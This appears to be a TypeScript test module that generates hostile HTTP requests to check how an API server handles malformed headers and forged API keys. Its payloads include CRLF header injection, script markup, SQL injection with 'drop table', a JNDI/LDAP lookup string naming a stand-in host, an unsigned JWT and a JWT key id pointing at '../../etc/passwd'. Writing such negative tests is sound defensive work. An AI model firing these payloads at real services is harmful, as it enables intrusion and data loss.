import { type Hostile, shareOf, written } from '../wire.ts'

/** Every header that we read, echo, keep or might be thought to; those first that are echoed or kept. */
const names = [
  'x-correlation-id',
  'x-request-id',
  'idempotency-key',
  'traceparent',
  'tracestate',
  'if-match',
  'if-none-match',
  'if-modified-since',
  'accept',
  'accept-encoding',
  'accept-language',
  'origin',
  'user-agent',
  'x-forwarded-for',
  'x-forwarded-host',
  'x-forwarded-proto',
  'forwarded',
  'cookie',
  'range',
  'access-control-request-method',
  'access-control-request-headers',
  'content-type',
  'content-encoding',
  'authorization',
  'x-http-method-override',
  'expect',
  'baggage',
  'prefer',
  'te',
]

const echoed = 7

const bytesOf = (text: string): string => Buffer.from(text).toString('latin1')

const values: Readonly<Record<string, string>> = {
  empty: '',
  'latin-1': 'h\xf6stile \xff\xfe',
  'UTF-8': bytesOf('hostile-ñ-漢-🦊'),
  'bytes that are no UTF-8': '\xc3\x28\xed\xa0\x80',
  'bidi and zero width': bytesOf('hostile\u202e\u200b\ufeff'),
  'a line and a header': 'hostile\r\nSet-Cookie: hostile=1',
  'a line and an answer': 'hostile\r\nContent-Length: 0\r\nX-Hostile: HTTP/1.1 200 OK',
  'escaped lines': '%0d%0aSet-Cookie:%20hostile=1%0d%0a%0d%0a<script>',
  'escaped lines in UTF-8': '%E5%98%8A%E5%98%8DSet-Cookie:hostile=1',
  'a line of a log': 'hostile"}\\n{"level":60,"msg":"forged"}',
  'a terminal': 'hostile%1b[2J\\x1b]0;',
  markup: '"><script>hostile()</script><!--',
  SQL: "' or 1=1; drop table client; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as it is sent
  'a lookup': '${jndi:ldap://hostile.test/a}{{7*7}}#{7*7}',
  'a prototype': '__proto__',
  'a quote without end': '"hostile',
  'commas and semicolons': ',,;;,;=,"',
  'a tab': 'host\tile',
  'a kilobyte': 'h'.repeat(1_024),
  'all punctuation': '!"#$%&\'()*+,-./:;<=>?@[\\]^_`{|}~',
  'a number too large': '9'.repeat(400),
  'many ranges': `bytes=${'0-1,'.repeat(500)}`,
  'many of a list': '*/*;q=0.1,'.repeat(500),
}

/** Each value in each header, of a read and of a write. */
export function* headers({ key }: { key: string }): Generator<Hostile> {
  const client = '{"name":"Hostile header","currency":"EUR"}'
  for (const [turn, name] of names.entries()) {
    // What is echoed or kept gets all of them.
    const parts = turn < echoed ? 1 : 3
    for (const [what, value] of shareOf(Object.entries(values), turn, parts)) {
      const sent = [`${name}: ${value}`]
      const isOfBody = ['content-type', 'content-encoding', 'idempotency-key'].includes(name)
      const own = name === 'authorization' ? undefined : key
      const request = isOfBody ? { method: 'POST', path: '/api/v1/clients', body: client } : {}
      const bytes = written({ ...request, key: own, headers: sent })
      yield { name: `header ${name}: ${what}`, bytes, ...expectedOf(name) }
    }
    const twice = [`${name}: hostile`, `${name}: other`]
    yield { name: `header ${name}: twice`, bytes: written({ key, headers: twice }) }
  }
  yield* large(key)
}

function expectedOf(name: string): Partial<Hostile> {
  if (name === 'authorization') return { statuses: [400, 401] }
  return {}
}

function* large(key: string): Generator<Hostile> {
  const statuses = [431]
  const long = 'a'.repeat(65_536)
  for (const name of [...names, 'host', 'x-hostile']) {
    const bytes = written({ key, headers: [`${name}: ${long}`] })
    yield { name: `header ${name}: 64 KiB`, bytes, statuses }
  }
  const many = Array.from({ length: 5_000 }, (_, at) => `x-${at}: a`)
  yield { name: 'header: 5,000 of them', bytes: written({ key, headers: many }), statuses }
  const nameless = [`${long}: a`]
  yield { name: 'header: a name of 64 KiB', bytes: written({ headers: nameless }), statuses }
}

/** Keys that are none. */
export function* keys({ key }: { key: string }): Generator<Hostile> {
  const statuses = [400, 401]
  const forged = [
    '',
    ' ',
    'null',
    'undefined',
    key.slice(0, -1),
    `${key}x`,
    key.toUpperCase(),
    `${key.slice(0, -1)}!`,
    key.replace('test', 'live'),
    key.replace('test', 'op'),
    key.slice(0, 13),
    `${key},${key}`,
    `${key}\xa0`,
    `"${key}"`,
    key.split('').reverse().join(''),
    `ubk_test_${'0'.repeat(49)}`,
    `ubk_op_${'A'.repeat(49)}`,
    'a'.repeat(4_000),
    'eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.',
    '__proto__',
    'eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uL2V0Yy9wYXNzd2QifQ.e30.x',
    `${key}%00`,
    '../../etc/passwd',
    "' or ''='",
    `${key.slice(0, 20)}*`,
    '\xff\xfe',
    'ubk_test_',
    'ubk__',
    `${key}=`,
  ]
  for (const [at, text] of forged.entries()) {
    const headers = [`Authorization: Bearer ${text}`]
    const name = `key ${at}: ${text.replaceAll(key, '<key>').slice(0, 40)}`
    yield { name, bytes: written({ headers }), statuses }
  }
  for (const scheme of [
    'Basic',
    'Digest',
    'Token',
    'Bearer:',
    'Bearer,',
    'BearerBearer',
    'ApiKey',
    '',
  ]) {
    const headers = [`Authorization: ${scheme} ${key}`]
    yield { name: `key under the scheme "${scheme}"`, bytes: written({ headers }), statuses }
  }
  for (const query of ['key', 'api_key', 'apiKey', 'access_token', 'token', 'authorization']) {
    const path = `/api/v1/me?${query}=${key}`
    yield { name: `key in the query as ${query}`, bytes: written({ path }), statuses }
  }
  for (const name of ['x-correlation-id', 'user-agent', 'referer', 'traceparent']) {
    const bytes = written({ key, headers: [`${name}: ${key}`] })
    yield { name: `key in the header ${name}, beside itself`, bytes, statuses: [200, 400] }
  }
  const path = `/api/v1/clients/${key}`
  yield { name: 'key in the path', bytes: written({ path, key }), statuses: [400] }
  for (const name of ['x-api-key', 'api-key', 'cookie', 'proxy-authorization', 'x-authorization']) {
    const bytes = written({ headers: [`${name}: Bearer ${key}`] })
    yield { name: `key in the header ${name}`, bytes, statuses }
  }
}
